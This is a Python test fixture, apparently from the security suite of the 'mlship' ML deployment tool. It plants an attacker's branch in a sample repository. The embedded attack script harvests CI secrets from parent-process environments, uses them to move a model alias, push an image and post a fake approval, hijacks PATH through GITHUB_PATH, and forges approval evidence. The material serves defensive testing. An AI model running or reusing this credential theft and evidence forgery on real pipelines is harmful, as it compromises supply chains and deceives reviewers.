"""A branch whose code attacks: what `attack.py` does when the training imports it.

It looks for credentials in its environment and in those of the processes that started it. With
what it finds, it approves itself, moves an alias, pushes an image and comments. Then it takes the
place of `mlship` in the rest of its job, and forges what the job hands over.
"""

import subprocess
from pathlib import Path

import yaml

from tests.harness.act import init
from tests.harness.repositories import QUICK

REPOSITORY = "ada/iris"
BRANCH = "feature/petals"
COMMENT = "mlship: this release is approved"

_ATTACK = '''
import json
import os
import shutil
import stat
import sys
from pathlib import Path
from urllib.request import Request, urlopen

FORGE = Path(__file__).with_name("forge.py")


def environments():
    """Yield the variables of this process and of those that started it, up to the step's shell."""
    number = os.getpid()
    for _ in range(8):
        place = Path("/proc") / str(number)
        pairs = (place / "environ").read_bytes().split(b"\\0")
        yield dict(pair.decode(errors="replace").partition("=")[::2] for pair in pairs if pair)
        if (place / "comm").read_text().strip() == "bash":
            return
        number = int((place / "stat").read_text().rpartition(")")[2].split()[1])


def told(url, body, authorization, method="POST"):
    headers = {"Content-Type": "application/json", "Authorization": authorization}
    try:
        urlopen(Request(url, json.dumps(body).encode(), headers, method=method), timeout=10).read()
    except OSError as error:
        print("mallory:", url, error)


def attack():
    found = {}
    for environment in environments():
        found |= environment
    secrets = {name: found.get(name, "none") for name in SECRETS}
    api = "%s/api/2.0/mlflow/" % SERVER
    bearer = "Bearer " + secrets["MLFLOW_TRACKING_TOKEN"]
    told(api + "registered-models/alias", {"alias": "champion", "version": "7"}, bearer)
    approval = {"experiment_id": "0", "run_name": "approve iris", "tags": []}
    told(api + "runs/create", approval, bearer)
    told(SERVER + "/v2/iris/manifests/evil", {}, "Basic " + secrets["REGISTRY_PASSWORD"], "PUT")
    if "GITHUB_TOKEN" in found:
        comments = found["GITHUB_API_URL"] + "/repos/REPOSITORY/issues/NUMBER/comments"
        told(comments, {"body": COMMENT}, "Bearer " + found["GITHUB_TOKEN"])
    if os.environ.get("PLAIN") or not found.get("GITHUB_PATH"):
        return
    folder = Path(found["RUNNER_TEMP"]) / "mallory"
    folder.mkdir(exist_ok=True)
    script = folder / "mlship"
    if script.exists():
        return
    script.write_text(
        "#!/bin/sh\\n"
        f"{shutil.which('mlship', path=found['PATH'])} \\"$@\\" || exit $?\\n"
        f"[ \\"$1\\" != export-evidence ] || exec {sys.executable} {FORGE} \\"$FOLDER\\"\\n"
    )
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    with open(found["GITHUB_PATH"], "a") as file:
        print(folder, file=file)


attack()
'''

_FORGE = '''
"""Adds to what a job hands over: verified, approved, in production."""
import sys
from pathlib import Path

import msgspec

from mlship.adapters.ledgers import handover

folder = Path(sys.argv[1])
said = [record.evidence for record in handover.read(folder)]
last = said[-1]
for step, facts in (
    ("verify-staging-workload", {}),
    ("approve", {"by": "grace"}),
    ("deploy-production", {"role": "champion"}),
):
    said.append(msgspec.structs.replace(last, step=step, verdict="passed", facts=facts))
handover.write(said, folder)
print("mallory: forged", len(said))
'''

SECRETS = ("MLFLOW_TRACKING_TOKEN", "REGISTRY_PASSWORD", "GITHUB_TOKEN")

CARELESS = """
on: push
permissions:
  pull-requests: write
jobs:
  report:
    runs-on: ubuntu-latest
    env:
      MLFLOW_TRACKING_TOKEN: ${{ secrets.MLFLOW_TRACKING_TOKEN }}
      REGISTRY_PASSWORD: ${{ secrets.REGISTRY_PASSWORD }}
      GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
      - name: train
        env: {MLSHIP_LEDGER__KIND: directory, MLSHIP_STORE__KIND: directory}
        run: mlship --set ledger.uri=null --set store.uri=null train
"""
"""The control: the secrets of the project are in the job that trains."""


def write(repository: Path, server: str, pull: int) -> str:
    """Make a project with a shared ledger and a branch with the attack; return its commit.

    Args:
        repository: where it is to be.
        server: the address of tracking server and registry.
        pull: the pull request that the attack comments on.
    """
    sets = ("ledger.kind=mlflow", "workflows.report=github", "workflows.public_data=true")
    init(repository, "--example", "iris", sets=sets)
    settings = repository / "mlship.yaml"
    values = yaml.safe_load(settings.read_text())
    values["ledger"] = {"kind": "mlflow", "uri": server}
    values["store"] = {"kind": "directory"}
    settings.write_text(yaml.safe_dump(values))
    (repository / "tests" / "unit" / "test_pipeline.py").unlink()  # it loads a lot
    (repository / "tests" / "unit" / "test_one.py").write_text("def test_one():\n    assert 1\n")
    _git(repository, "init", "-q", "-b", "main")
    _git(repository, "remote", "add", "origin", f"https://github.com/{REPOSITORY}.git")
    _commit(repository, "Start")
    _git(repository, "checkout", "-q", "-b", BRANCH)
    attack = _ATTACK.replace("SECRETS", repr(SECRETS)).replace("SERVER", repr(server))
    attack = attack.replace("COMMENT", repr(COMMENT)).replace("REPOSITORY/", f"{REPOSITORY}/")
    (repository / "attack.py").write_text(attack.replace("NUMBER", str(pull)))
    (repository / "forge.py").write_text(_FORGE)
    code = repository / "pipeline.py"
    code.write_text(f"import attack\n{code.read_text()}")
    (repository / ".github" / "workflows" / "careless.yml").write_text(CARELESS)
    return _commit(repository, "Use petals")


def harmless(repository: Path) -> str:
    """Add a commit without the attack to the branch, and return it."""
    code = repository / "pipeline.py"
    code.write_text(code.read_text().removeprefix("import attack\n"))
    return _commit(repository, "Remove what reviewers did not like")


def _commit(repository: Path, subject: str) -> str:
    _git(repository, "add", "-A")
    identity = ("-c", "user.name=Mallory", "-c", "user.email=mallory@example.org")
    _git(repository, *identity, "commit", "-q", "-m", subject)
    return _git(repository, "rev-parse", "HEAD")


def _git(repository: Path, *arguments: str) -> str:
    done = subprocess.run(
        ["git", *QUICK, *arguments], cwd=repository, check=True, capture_output=True, text=True
    )
    return done.stdout.strip()
